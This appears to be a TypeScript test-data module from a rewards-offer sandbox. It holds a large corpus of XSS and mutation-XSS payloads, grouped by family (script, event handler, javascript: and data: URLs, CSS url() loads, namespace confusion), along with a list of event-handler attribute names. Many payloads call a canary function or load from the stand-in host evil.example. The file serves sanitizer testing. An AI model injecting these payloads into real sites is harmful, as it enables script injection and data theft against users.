/**
 * The XSS corpus: hostile strings that a compromised rewards service (or a merchant's campaign tool) could
 * put in any text or inline-SVG field of an offer. Pure data, no DOM: the sandbox's hostile mode serves it
 * in every slot of its hostile offers, and a test of your own can inject it wherever it likes.
 *
 * Every script payload calls the canary `__okXss('<vector id>')` (or opens a dialog), and every payload
 * that would load something aims at {@link XSS_EVIL_ORIGIN}, so a test can tell exactly which vector got
 * through: the canary's argument, the dialog's message or the request's path names it.
 */

/** The global function every script payload calls with its vector id. A test defines it and watches it. */
export const XSS_CANARY = '__okXss';

/** The origin every exfiltration or remote-load payload aims at. Nothing may ever be requested from it. */
export const XSS_EVIL_ORIGIN = 'https://evil.example';

/** A second, protocol-relative host, for payloads that try `//host` forms. */
export const XSS_EVIL_HOST = 'evil.example';

/** Where a vector comes from. */
export type XssFamily =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'external-use'
  | 'foreign-object'
  | 'animation'
  | 'style'
  | 'cdata-entity'
  | 'namespace'
  | 'mutation'
  | 'remote-image'
  | 'html-text';

export interface XssVector {
  /** Unique, `[a-z0-9-]` only: it is embedded in the payload's JavaScript and URLs. */
  id: string;
  family: XssFamily;
  /** The hostile string, injected as is into a text or SVG field. */
  payload: string;
}

/**
 * Every event-handler content attribute browsers know: HTML's GlobalEventHandlers and
 * WindowEventHandlers, DocumentAndElementEventHandlers, SVG's animation and document events, legacy and
 * vendor-prefixed ones. The Chromium suite checks that this list covers every `on*` property Chromium
 * exposes on elements, the document and the window.
 */
export const XSS_EVENT_HANDLER_NAMES: readonly string[] = [
  'onabort',
  'onactivate',
  'onafterprint',
  'onafterscriptexecute',
  'onanimationcancel',
  'onanimationend',
  'onanimationiteration',
  'onanimationstart',
  'onappinstalled',
  'onauxclick',
  'onbeforeactivate',
  'onbeforecopy',
  'onbeforecut',
  'onbeforeinput',
  'onbeforeinstallprompt',
  'onbeforematch',
  'onbeforepaste',
  'onbeforeprint',
  'onbeforescriptexecute',
  'onbeforetoggle',
  'onbeforexrselect',
  'onbeforeunload',
  'onbegin',
  'onblur',
  'onbounce',
  'oncancel',
  'oncanplay',
  'oncanplaythrough',
  'onchange',
  'onclick',
  'onclose',
  'oncommand',
  'oncontentvisibilityautostatechange',
  'oncontextlost',
  'oncontextmenu',
  'oncontextrestored',
  'oncopy',
  'oncuechange',
  'oncut',
  'ondblclick',
  'ondeactivate',
  'ondevicemotion',
  'ondeviceorientation',
  'ondeviceorientationabsolute',
  'ondrag',
  'ondragend',
  'ondragenter',
  'ondragexit',
  'ondragleave',
  'ondragover',
  'ondragstart',
  'ondrop',
  'ondurationchange',
  'onemptied',
  'onend',
  'onended',
  'onerror',
  'onfinish',
  'onfocus',
  'onfocusin',
  'onfocusout',
  'onformdata',
  'onfreeze',
  'onfullscreenchange',
  'onfullscreenerror',
  'ongotpointercapture',
  'onhashchange',
  'oninput',
  'oninvalid',
  'onkeydown',
  'onkeypress',
  'onkeyup',
  'onlanguagechange',
  'onload',
  'onloadeddata',
  'onloadedmetadata',
  'onloadend',
  'onloadstart',
  'onlostpointercapture',
  'onmessage',
  'onmessageerror',
  'onmousedown',
  'onmouseenter',
  'onmouseleave',
  'onmousemove',
  'onmouseout',
  'onmouseover',
  'onmouseup',
  'onmousewheel',
  'onoffline',
  'ononline',
  'onpagehide',
  'onpagereveal',
  'onpageshow',
  'onpageswap',
  'onpaste',
  'onpause',
  'onplay',
  'onplaying',
  'onpointercancel',
  'onpointerdown',
  'onpointerenter',
  'onpointerleave',
  'onpointerlockchange',
  'onpointerlockerror',
  'onpointermove',
  'onpointerout',
  'onpointerover',
  'onpointerrawupdate',
  'onpointerup',
  'onpopstate',
  'onprerenderingchange',
  'onprogress',
  'onratechange',
  'onreadystatechange',
  'onrejectionhandled',
  'onrepeat',
  'onreset',
  'onresize',
  'onresume',
  'onscroll',
  'onscrollend',
  'onscrollsnapchange',
  'onscrollsnapchanging',
  'onsearch',
  'onsecuritypolicyviolation',
  'onseeked',
  'onseeking',
  'onselect',
  'onselectionchange',
  'onselectstart',
  'onshow',
  'onslotchange',
  'onstalled',
  'onstart',
  'onstorage',
  'onsubmit',
  'onsuspend',
  'onSVGAbort',
  'onSVGError',
  'onSVGLoad',
  'onSVGResize',
  'onSVGScroll',
  'onSVGUnload',
  'onSVGZoom',
  'ontimeupdate',
  'ontoggle',
  'ontouchcancel',
  'ontouchend',
  'ontouchmove',
  'ontouchstart',
  'ontransitioncancel',
  'ontransitionend',
  'ontransitionrun',
  'ontransitionstart',
  'onunhandledrejection',
  'onunload',
  'onvisibilitychange',
  'onvolumechange',
  'onwaiting',
  'onwebkitanimationend',
  'onwebkitanimationiteration',
  'onwebkitanimationstart',
  'onwebkitfullscreenchange',
  'onwebkitfullscreenerror',
  'onwebkitmouseforcechanged',
  'onwebkitmouseforcedown',
  'onwebkitmouseforceup',
  'onwebkitmouseforcewillbegin',
  'onwebkittransitionend',
  'onwheel',
  'onzoom',
];

/** The JavaScript a payload runs: the canary with its own id. Single quotes only, so it fits any attribute. */
const js = (id: string): string => `${XSS_CANARY}('${id}')`;

/** `btoa` for ASCII payloads, in Node and browsers alike. */
const base64 = (text: string): string => globalThis.btoa(text);

/** `&#NN;` for every character: entity-encoded attribute values and script bodies. */
const decimalEntities = (text: string): string =>
  Array.from(text, (char) => `&#${char.codePointAt(0)};`).join('');

/** `&#xNN;` for every character. */
const hexEntities = (text: string): string =>
  Array.from(text, (char) => `&#x${(char.codePointAt(0) ?? 0).toString(16)};`).join('');

const SVG_OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24">';
const SHAPE = '<rect width="24" height="24"/>';

type Template = (id: string) => string;

/** Hand-written vectors per family; `id` is the vector id the payload reports with. */
const HAND_WRITTEN: Record<Exclude<XssFamily, 'event-handler'>, Record<string, Template>> & {
  'event-handler': Record<string, Template>;
} = {
  script: {
    'script-inline': (id) => `${SVG_OPEN}<script>${js(id)}</script>${SHAPE}</svg>`,
    'script-ecmascript-type': (id) => `${SVG_OPEN}<script type="text/ecmascript">${js(id)}</script></svg>`,
    'script-mixed-case': (id) => `<svg><ScRiPt>${js(id)}</ScRiPt></svg>`,
    'script-bare-html': (id) => `<script>${js(id)}</script>`,
    'script-src-remote': (id) => `<svg><script src="${XSS_EVIL_ORIGIN}/${id}.js"></script></svg>`,
    'script-href-remote': (id) => `${SVG_OPEN}<script href="${XSS_EVIL_ORIGIN}/${id}.js"/></svg>`,
    'script-xlink-href-data': (id) =>
      `${SVG_OPEN}<script xlink:href="data:text/javascript,${encodeURIComponent(js(id))}"/></svg>`,
    'script-src-data-html': (id) => `<script src="data:text/javascript,${js(id)}"></script><svg/>`,
    'script-entity-body': (id) => `<svg><script>${decimalEntities(js(id))}</script></svg>`,
    'script-in-desc': (id) => `<svg><desc><script>${js(id)}</script></desc></svg>`,
    'script-in-title': (id) => `<svg><title><script>${js(id)}</script></title></svg>`,
    'script-in-defs-use': (id) =>
      `${SVG_OPEN}<defs><g id="s"><script>${js(id)}</script></g></defs><use href="#s"/></svg>`,
    'script-unclosed': (id) => `<svg><script>${js(id)}<!--</svg>`,
    'script-after-svg': (id) => `<svg>${SHAPE}</svg><script>${js(id)}</script>`,
    'script-nested-svg': (id) => `<svg><svg><g><script>${js(id)}</script></g></svg></svg>`,
    'script-alert-dialog': () => '<svg><script>alert(document.domain)</script></svg>',
    'script-confirm-dialog': () => '<svg><script>confirm(1)</script></svg>',
    'script-prompt-dialog': () => '<svg><script>prompt(1)</script></svg>',
  },
  'event-handler': {
    'handler-img-onerror': (id) => `<img src=x onerror="${js(id)}">`,
    'handler-svg-onload-slash': (id) => `<svg/onload=${js(id)}>`,
    'handler-svg-onload-uppercase': (id) => `<svg ONLOAD="${js(id)}">${SHAPE}</svg>`,
    'handler-animate-onbegin': (id) =>
      `${SVG_OPEN}<animate attributeName="x" from="0" to="1" dur="10ms" onbegin="${js(id)}"/></svg>`,
    'handler-animate-onend': (id) =>
      `${SVG_OPEN}<rect width="1" height="1"><animate attributeName="x" to="1" dur="1ms" onend="${js(id)}"/></rect></svg>`,
    'handler-set-onbegin': (id) => `${SVG_OPEN}<set attributeName="x" to="1" onbegin="${js(id)}"/></svg>`,
    'handler-autofocus-onfocus': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" tabindex="0" autofocus onfocus="${js(id)}"/></svg>`,
    'handler-details-ontoggle': (id) => `<details open ontoggle="${js(id)}"><summary>x</summary></details>`,
    'handler-body-onload': (id) => `<body onload="${js(id)}"><svg/></body>`,
    'handler-input-autofocus': (id) => `<input autofocus onfocus="${js(id)}">`,
    'handler-video-source-onerror': (id) => `<video><source onerror="${js(id)}"></video>`,
    'handler-iframe-onload': (id) => `<iframe onload="${js(id)}"></iframe>`,
    'handler-style-onload': (id) => `<svg><style onload="${js(id)}"></style></svg>`,
    'handler-animation-start': (id) =>
      `<style>@keyframes okx{from{opacity:0}to{opacity:1}}</style>${SVG_OPEN}<rect width="9" height="9" style="animation:okx 1ms" onanimationstart="${js(id)}"/></svg>`,
    'handler-entity-encoded-value': (id) => `<svg onload="${hexEntities(js(id))}">${SHAPE}</svg>`,
    'handler-newline-separated': (id) => `<svg\nonload\n=\n"${js(id)}">${SHAPE}</svg>`,
    'handler-marquee-onstart': (id) => `<marquee onstart="${js(id)}">x</marquee>`,
    'handler-image-onerror': (id) => `${SVG_OPEN}<image href="x" onerror="${js(id)}"/></svg>`,
    'handler-alert-dialog': () =>
      `${SVG_OPEN}<animate attributeName="x" dur="1ms" onbegin="alert(1)"/></svg>`,
  },
  'javascript-url': {
    'js-url-a-href': (id) => `${SVG_OPEN}<a href="javascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-a-xlink-href': (id) =>
      `${SVG_OPEN}<a xlink:href="javascript:${js(id)}"><text y="12">x</text></a></svg>`,
    'js-url-leading-space': (id) => `${SVG_OPEN}<a href="  javascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-tab-entity': (id) => `${SVG_OPEN}<a href="java&#x09;script:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-mixed-case': (id) => `${SVG_OPEN}<a href="JaVaScRiPt:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-entity-scheme': (id) => `${SVG_OPEN}<a href="&#106;avascript:${js(id)}">${SHAPE}</a></svg>`,
    'js-url-colon-entity': (id) => `${SVG_OPEN}<a href="javascript&colon;${js(id)}">${SHAPE}</a></svg>`,
    'js-url-html-anchor': (id) => `<a href="javascript:${js(id)}">Activate</a>`,
    'js-url-vbscript': () => `${SVG_OPEN}<a href="vbscript:msgbox(1)">${SHAPE}</a></svg>`,
    'js-url-embed-src': (id) => `<svg><embed src="javascript:${js(id)}"/></svg>`,
    'js-url-object-data': (id) => `<svg><object data="javascript:${js(id)}"></object></svg>`,
    'js-url-iframe-src': (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
    'js-url-form-action': (id) => `<form action="javascript:${js(id)}"><button>Go</button></form>`,
    'js-url-feimage': (id) =>
      `${SVG_OPEN}<filter id="f"><feImage href="javascript:${js(id)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'js-url-use-href': (id) => `${SVG_OPEN}<use href="javascript:${js(id)}"/></svg>`,
    'js-url-meta-refresh': (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`,
  },
  'data-url': {
    'data-url-a-html': (id) =>
      `${SVG_OPEN}<a href="data:text/html,&lt;script&gt;${js(id)}&lt;/script&gt;">${SHAPE}</a></svg>`,
    'data-url-a-base64': (id) =>
      `${SVG_OPEN}<a href="data:text/html;base64,${base64(`<script>${js(id)}</script>`)}">${SHAPE}</a></svg>`,
    'data-url-use-svg': (id) =>
      `${SVG_OPEN}<use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js(id)}"/></svg>`)}#x"/></svg>`,
    'data-url-image-svg-script': (id) =>
      `${SVG_OPEN}<image href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}"/></svg>`,
    'data-url-iframe-src': (id) => `<iframe src="data:text/html,<script>${js(id)}</script>"></iframe>`,
    'data-url-object': (id) => `<object data="data:text/html,<script>${js(id)}</script>"></object>`,
    'data-url-embed-svg': (id) =>
      `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}">`,
    'data-url-script-src': (id) => `<svg><script href="data:,${js(id)}"/></svg>`,
    'data-url-xlink-use': (id) =>
      `${SVG_OPEN}<use xlink:href="data:image/svg+xml,&lt;svg id='y' xmlns='http://www.w3.org/2000/svg'&gt;&lt;a id='y'/&gt;&lt;/svg&gt;#y" onload="${js(id)}"/></svg>`,
  },
  'external-use': {
    'use-href-remote': (id) => `${SVG_OPEN}<use href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-xlink-href-remote': (id) => `${SVG_OPEN}<use xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-protocol-relative': (id) => `${SVG_OPEN}<use href="//${XSS_EVIL_HOST}/${id}.svg#icon"/></svg>`,
    'use-leading-space': (id) => `${SVG_OPEN}<use href="  ${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-both-hrefs': (id) =>
      `${SVG_OPEN}<path id="p" d="M0 0h9v9z"/><use href="#p" xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-entity-slashes': (id) =>
      `${SVG_OPEN}<use href="https:&#x2F;&#x2F;${XSS_EVIL_HOST}/${id}.svg#a"/></svg>`,
    'use-file-scheme': () => `${SVG_OPEN}<use href="file:///etc/passwd#a"/></svg>`,
    'use-relative-path': (id) => `${SVG_OPEN}<use href="/${id}/sprite.svg#a"/></svg>`,
    'use-fragment-escape': (id) => `${SVG_OPEN}<use href="#a' onload='${js(id)}"/></svg>`,
    'use-symbol-with-handler': (id) =>
      `${SVG_OPEN}<symbol id="s"><rect width="9" height="9" onclick="${js(id)}"/></symbol><use href="#s"/></svg>`,
  },
  'foreign-object': {
    'fo-img-onerror': (id) =>
      `${SVG_OPEN}<foreignObject width="24" height="24"><img src=x onerror="${js(id)}"></foreignObject></svg>`,
    'fo-iframe-js': (id) =>
      `${SVG_OPEN}<foreignObject><iframe src="javascript:${js(id)}"></iframe></foreignObject></svg>`,
    'fo-xhtml-script': (id) =>
      `${SVG_OPEN}<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${js(id)}</script></body></foreignObject></svg>`,
    'fo-anchor-js': (id) =>
      `${SVG_OPEN}<foreignObject><a href="javascript:${js(id)}">x</a></foreignObject></svg>`,
    'fo-lowercase': (id) => `<svg><foreignobject><img src=x onerror="${js(id)}"></foreignobject></svg>`,
    'fo-formaction': (id) =>
      `${SVG_OPEN}<foreignObject><form><button formaction="javascript:${js(id)}">x</button></form></foreignObject></svg>`,
    'fo-stylesheet-link': (id) =>
      `${SVG_OPEN}<foreignObject><link rel="stylesheet" href="${XSS_EVIL_ORIGIN}/${id}.css"></foreignObject></svg>`,
    'fo-meta-refresh': (id) =>
      `${SVG_OPEN}<foreignObject><meta http-equiv="refresh" content="0;url=javascript:${js(id)}"></foreignObject></svg>`,
    'fo-object-remote': (id) =>
      `${SVG_OPEN}<foreignObject><object data="${XSS_EVIL_ORIGIN}/${id}"></object></foreignObject></svg>`,
    'fo-switch': (id) =>
      `${SVG_OPEN}<switch><foreignObject><img src=x onerror="${js(id)}"></foreignObject>${SHAPE}</switch></svg>`,
    'fo-input-autofocus': (id) =>
      `${SVG_OPEN}<foreignObject><input autofocus onfocus="${js(id)}"></foreignObject></svg>`,
    'fo-body-onload': (id) =>
      `${SVG_OPEN}<foreignObject><body onload="${js(id)}"></body></foreignObject></svg>`,
    'fo-img-remote': (id) =>
      `${SVG_OPEN}<foreignObject><img src="${XSS_EVIL_ORIGIN}/${id}.png"></foreignObject></svg>`,
  },
  animation: {
    'anim-animate-href-values': (id) =>
      `${SVG_OPEN}<a><animate attributeName="href" values="javascript:${js(id)}"/><text y="12">x</text></a></svg>`,
    'anim-set-xlink-href': (id) =>
      `${SVG_OPEN}<a xlink:href="#"><set attributeName="xlink:href" to="javascript:${js(id)}"/>${SHAPE}</a></svg>`,
    'anim-animate-from-to': (id) =>
      `${SVG_OPEN}<animate xlink:href="#l" attributeName="href" from="#" to="javascript:${js(id)}" begin="0s" dur="1s"/><a id="l">${SHAPE}</a></svg>`,
    'anim-use-href-remote': (id) =>
      `${SVG_OPEN}<use href="#a"><animate attributeName="href" values="${XSS_EVIL_ORIGIN}/${id}.svg#a"/></use></svg>`,
    'anim-set-image-href': (id) =>
      `${SVG_OPEN}<image width="9" height="9"><set attributeName="href" to="${XSS_EVIL_ORIGIN}/${id}.png"/></image></svg>`,
    'anim-set-onload': (id) => `${SVG_OPEN}<set attributeName="onload" to="${js(id)}"/></svg>`,
    'anim-set-onmouseover': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><set attributeName="onmouseover" to="${js(id)}"/></rect></svg>`,
    'anim-mpath-remote': (id) =>
      `${SVG_OPEN}<rect width="1" height="1"><animateMotion dur="1s"><mpath href="${XSS_EVIL_ORIGIN}/${id}.svg#p"/></animateMotion></rect></svg>`,
    'anim-tab-in-value': (id) =>
      `${SVG_OPEN}<a href="#"><animate attributeName="href" values="java&#x09;script:${js(id)}"/>${SHAPE}</a></svg>`,
    'anim-animate-transform-onbegin': (id) =>
      `${SVG_OPEN}<animateTransform attributeName="transform" type="scale" values="1;2" dur="1ms" onbegin="${js(id)}"/></svg>`,
    'anim-discard-onbegin': (id) => `${SVG_OPEN}<discard onbegin="${js(id)}"/></svg>`,
    'anim-set-style-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><set attributeName="style" to="fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"/></rect></svg>`,
    'anim-animate-fill-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9"><animate attributeName="fill" values="url(${XSS_EVIL_ORIGIN}/${id}.svg#g)" dur="1s"/></rect></svg>`,
    'anim-animatecolor': (id) =>
      `${SVG_OPEN}<animateColor attributeName="fill" to="red" onbegin="${js(id)}"/></svg>`,
    'anim-set-attribute-type-xml': (id) =>
      `${SVG_OPEN}<a><set attributeType="XML" attributeName="href" to="javascript:${js(id)}"/>${SHAPE}</a></svg>`,
  },
  style: {
    'style-element-import': (id) =>
      `${SVG_OPEN}<style>@import url("${XSS_EVIL_ORIGIN}/${id}.css");</style></svg>`,
    'style-element-url': (id) =>
      `${SVG_OPEN}<style>rect{fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)}</style>${SHAPE}</svg>`,
    'style-attr-fill-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"/></svg>`,
    'style-attr-background': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="background-image:url('${XSS_EVIL_ORIGIN}/${id}.png')"/></svg>`,
    'style-attr-escaped-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:u\\72l(${XSS_EVIL_ORIGIN}/${id})"/></svg>`,
    'style-attr-comment-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:url/**/(${XSS_EVIL_ORIGIN}/${id})"/></svg>`,
    'style-presentation-fill': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" fill="url(${XSS_EVIL_ORIGIN}/${id}.svg#g)"/></svg>`,
    'style-presentation-filter': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" filter="url(${XSS_EVIL_ORIGIN}/${id}.svg#f)"/></svg>`,
    'style-presentation-mask': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" mask="url('//${XSS_EVIL_HOST}/${id}.svg#m')"/></svg>`,
    'style-presentation-clip-quoted': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" clip-path="url( &quot;${XSS_EVIL_ORIGIN}/${id}.svg#c&quot; )"/></svg>`,
    'style-behavior': () => `${SVG_OPEN}<rect width="9" height="9" style="behavior:url(x.htc)"/></svg>`,
    'style-moz-binding': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="-moz-binding:url(${XSS_EVIL_ORIGIN}/${id}.xml#x)"/></svg>`,
    'style-expression': (id) => `${SVG_OPEN}<rect style="width:expression(${js(id)})"/></svg>`,
    'style-image-set': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:image-set('${XSS_EVIL_ORIGIN}/${id}.png' 1x)"/></svg>`,
    'style-font-face': (id) =>
      `${SVG_OPEN}<style>@font-face{font-family:okx;src:url(${XSS_EVIL_ORIGIN}/${id}.woff)}text{font-family:okx}</style><text y="9">x</text></svg>`,
    'style-cursor-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" cursor="url(${XSS_EVIL_ORIGIN}/${id}.cur), auto"/></svg>`,
    'style-marker-url': (id) =>
      `${SVG_OPEN}<path d="M0 0L9 9" marker-start="url(${XSS_EVIL_ORIGIN}/${id}.svg#m)"/></svg>`,
    'style-bare-import': (id) => `<style>@import '${XSS_EVIL_ORIGIN}/${id}.css';</style><svg/>`,
    'style-attr-entity-quote': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:url(&quot;${XSS_EVIL_ORIGIN}/${id}&quot;)"/></svg>`,
    'style-custom-property': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="--x:url(${XSS_EVIL_ORIGIN}/${id});fill:var(--x)"/></svg>`,
    'style-uppercase-url': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:URL(${XSS_EVIL_ORIGIN}/${id})"/></svg>`,
    'style-hex-escape-u': (id) =>
      `${SVG_OPEN}<rect width="9" height="9" style="fill:\\75rl(${XSS_EVIL_ORIGIN}/${id})"/></svg>`,
    'style-link-stylesheet': (id) => `<link rel="stylesheet" href="${XSS_EVIL_ORIGIN}/${id}.css"><svg/>`,
    'style-element-escape': (id) =>
      `${SVG_OPEN}<style>rect{background:\\75\\72\\6c(${XSS_EVIL_ORIGIN}/${id})}</style>${SHAPE}</svg>`,
  },
  'cdata-entity': {
    'cdata-img': (id) => `<svg><![CDATA[<img src=x onerror="${js(id)}">]]></svg>`,
    'cdata-close-svg': (id) => `<svg><![CDATA[</svg><img src=x onerror="${js(id)}">]]></svg>`,
    'cdata-script-body': (id) => `<svg><script><![CDATA[${js(id)}]]></script></svg>`,
    'cdata-text-breakout': (id) => `<svg><text><![CDATA[</text><script>${js(id)}</script>]]></text></svg>`,
    'entity-hex-javascript': (id) =>
      `${SVG_OPEN}<a href="${hexEntities('javascript:')}${js(id)}">${SHAPE}</a></svg>`,
    'entity-padded-decimal': (id) =>
      `${SVG_OPEN}<a href="${Array.from('javascript:', (c) => `&#000${c.codePointAt(0)}`).join('')}${js(id)}">${SHAPE}</a></svg>`,
    'entity-double-escaped': (id) => `&lt;svg onload=${js(id)}&gt;`,
    'entity-comment-breakout': (id) => `<svg><!--><img src=x onerror="${js(id)}">--></svg>`,
    'entity-bang-comment': (id) => `<svg><!-- --!><img src=x onerror="${js(id)}"> --></svg>`,
    'entity-doctype-entity': (id) =>
      `<!DOCTYPE svg [<!ENTITY x "<img src=x onerror=${js(id)}>">]><svg>&x;</svg>`,
    'entity-xml-stylesheet-pi': (id) => `<?xml-stylesheet href="${XSS_EVIL_ORIGIN}/${id}.xsl"?><svg/>`,
    'entity-escaped-script-text': (id) => `<svg>&lt;script&gt;${js(id)}&lt;/script&gt;</svg>`,
    'entity-title-escaped-img': (id) => `<svg><title>&lt;img src=x onerror=${js(id)}&gt;</title></svg>`,
    'entity-null-in-tag': (id) => `<svg><scr\u0000ipt>${js(id)}</scr\u0000ipt></svg>`,
    'entity-processing-instruction': (id) => `<svg><?x <img src=x onerror="${js(id)}">?></svg>`,
  },
  namespace: {
    'ns-math-mglyph-style': (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(id)}">`,
    'ns-svg-p-style': (id) => `<svg></p><style><a id="</style><img src=1 onerror=${js(id)}>">`,
    'ns-math-textarea': (id) =>
      `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js(id)} src=1>">`,
    'ns-svg-math-mglyph': (id) => `<svg><math><mi><mglyph><svg><style><img src=x onerror="${js(id)}">`,
    'ns-form-math': (id) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js(id)}>`,
    'ns-annotation-xml-math': (id) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${js(id)}"></annotation-xml></math>`,
    'ns-annotation-xml-svg': (id) =>
      `<svg><annotation-xml encoding="text/html"><img src=x onerror="${js(id)}">`,
    'ns-xhtml-default': (id) =>
      `<svg xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${js(id)}"></svg>`,
    'ns-html-prefix': (id) =>
      `<svg><html:img xmlns:html="http://www.w3.org/1999/xhtml" src=x onerror="${js(id)}"/></svg>`,
    'ns-xlink-alias': (id) =>
      `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${js(id)}">${SHAPE}</a></svg>`,
    'ns-svg-prefixed-script': (id) =>
      `<svg><svg:script xmlns:svg="http://www.w3.org/2000/svg">${js(id)}</svg:script></svg>`,
    'ns-noscript-title': (id) => `<svg><noscript><p title="</noscript><img src=x onerror=${js(id)}>">`,
    'ns-noscript-bare': (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>">`,
    'ns-template': (id) => `<svg><template><img src=x onerror="${js(id)}"></template></svg>`,
    'ns-desc-template-style': (id) =>
      `<svg><desc><template><style>/*</style><img src=x onerror=${js(id)}>*/</style></template></desc></svg>`,
    'ns-title-style': (id) => `<svg><title><style><img src=x onerror="${js(id)}"></style></title></svg>`,
    'ns-iframe-srcdoc': (id) => `<svg><iframe srcdoc="<script>${js(id)}</script>"></iframe></svg>`,
    'ns-math-href': (id) => `<math href="javascript:${js(id)}"><mi>x</mi></math>`,
    'ns-mathml-maction': (id) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}"><mtext>x</mtext></maction></math>`,
  },
  mutation: {
    'mxss-p-style': (id) => `<svg><p><style><img src=x onerror="${js(id)}"></p></svg>`,
    'mxss-style-escaped': (id) =>
      `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${js(id)}&gt;</style></svg>`,
    'mxss-textarea-title': (id) =>
      `<svg><textarea><img title="</textarea><img src=x onerror=${js(id)}>"></textarea></svg>`,
    'mxss-select-template': (id) =>
      `<svg><select><template><style><!--</style><img src=x onerror=${js(id)}>--></style></template></select></svg>`,
    'mxss-table-svg-style': (id) => `<svg><table><svg><style><img src=x onerror="${js(id)}">`,
    'mxss-title-attribute': (id) =>
      `<svg><a title="&lt;/style&gt;&lt;img src=x onerror=${js(id)}&gt;"><style>x</style></a></svg>`,
    'mxss-two-svgs': (id) =>
      `<svg><rect id="x"/></svg><svg><rect id="x" width="9" height="9" onclick="${js(id)}"/></svg>`,
    'mxss-style-comment': (id) => `<svg><style>/*<style><img src=x onerror=${js(id)}>*/</style></svg>`,
    'mxss-id-breakout': (id) => `<svg><p id="</svg><img src=x onerror=${js(id)}>">`,
    'mxss-frameset': (id) => `<svg><frameset onload="${js(id)}">`,
    'mxss-noembed': (id) =>
      `<svg><noembed><img title="</noembed><img src=x onerror=${js(id)}>"></noembed></svg>`,
    'mxss-noframes': (id) =>
      `<svg><noframes><img title="</noframes><img src=x onerror=${js(id)}>"></noframes></svg>`,
    'mxss-plaintext': (id) => `<svg><plaintext><img src=x onerror="${js(id)}">`,
    'mxss-xmp': (id) => `<svg><xmp><img title="</xmp><img src=x onerror=${js(id)}>"></xmp></svg>`,
    'mxss-svg-in-title': (id) =>
      `<svg><title><svg><style><img src=x onerror=${js(id)}></style></svg></title></svg>`,
    'mxss-nested-forms': (id) =>
      `<svg><form id="f"><form><input form="f" autofocus onfocus="${js(id)}"></form></form></svg>`,
    'mxss-backtick-attr': (id) => `<svg><rect width=\`9\` onmouseover=\`${js(id)}\`/></svg>`,
  },
  'remote-image': {
    'image-href-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
    'image-xlink-href-remote': (id) =>
      `${SVG_OPEN}<image xlink:href="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
    'image-protocol-relative': (id) =>
      `${SVG_OPEN}<image href="//${XSS_EVIL_HOST}/${id}.png" width="9" height="9"/></svg>`,
    'image-feimage-remote': (id) => `${SVG_OPEN}<feImage href="${XSS_EVIL_ORIGIN}/${id}.png"/></svg>`,
    'image-filter-feimage': (id) =>
      `${SVG_OPEN}<filter id="f"><feImage xlink:href="${XSS_EVIL_ORIGIN}/${id}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'image-onload-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.svg" onload="${js(id)}" width="9" height="9"/></svg>`,
    'image-html-img': (id) => `<img src="${XSS_EVIL_ORIGIN}/${id}.gif"><svg/>`,
    'image-pattern': (id) =>
      `${SVG_OPEN}<pattern id="p" width="9" height="9"><image href="${XSS_EVIL_ORIGIN}/${id}.png"/></pattern><rect fill="url(#p)" width="9" height="9"/></svg>`,
    'image-src-attribute': (id) =>
      `${SVG_OPEN}<image src="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
